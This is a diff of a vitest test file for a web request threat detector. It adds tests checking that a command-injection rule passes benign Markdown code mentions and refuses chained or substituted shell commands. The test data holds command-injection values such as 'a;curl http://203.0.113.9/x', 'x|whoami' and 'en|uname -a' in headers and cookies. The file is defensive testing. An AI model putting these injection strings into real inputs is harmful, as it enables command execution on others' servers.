@@ -1,7 +1,8 @@
 /**
  * Classes of the pattern table that public lists hold and the rules lacked: SQL Server's log-hiding
- * comment, Dust template sections, and a parameter that is an installer script's path. Each class gets
- * variants written here (no line of a corpus) and the legitimate values that come closest.
+ * comment, Dust template sections, and a parameter that is an installer script's path; and what the
+ * command pattern leaves to the shell family. Each class gets variants written here (no line of a
+ * corpus) and the legitimate values that come closest.
  */
 import { describe, expect, it } from "@effect/vitest"
 import { Effect } from "effect"
@@ -69,3 +70,23 @@ describe("cms_probing.install_script_param: a parameter that is an installer's p
     expectVerdicts(["how to run install.php", "/admin/update.php", "/account/upgrade.php", "/install.php.html", "/reinstall.php?id=1", "install.phpstorm"], []))
 })
 
+describe("cmd_injection.chain_strong: a command after a separator", () => {
+  it.effect("passes inline Markdown code naming a command, and a key named like one on a line of code", () =>
+    expectVerdicts([
+      "Run `whoami` to see your user",
+      "Use `node app.js` to start the server",
+      "Basically makes `node app.js 'foo bar'` work everywhere",
+      "javascript\nform.submit({\n  host: 'example.com',\n  path: '/upload'\n})"
+    ], []))
+
+  it.effect("still refuses a substitution, a chained command and a command after a line break", () =>
+    expectVerdicts([], ["`whoami`", "a`whoami`", "q;`id`", "x|whoami", "a;curl http://203.0.113.9/x", "x\nhost 203.0.113.9", "1 && node -e 1"]))
+
+  it.effect("refuses a chained command in a header and a cookie", () =>
+    Effect.gen(function*() {
+      const header = yield* ruleIdsOf({ path: "/", headers: { "x-forwarded-user": "a;whoami" } })
+      expect(header.threat).toBe(true)
+      const cookie = yield* ruleIdsOf({ path: "/", cookies: { lang: "en|uname -a" } })
+      expect(cookie.threat).toBe(true)
+    }))
+})
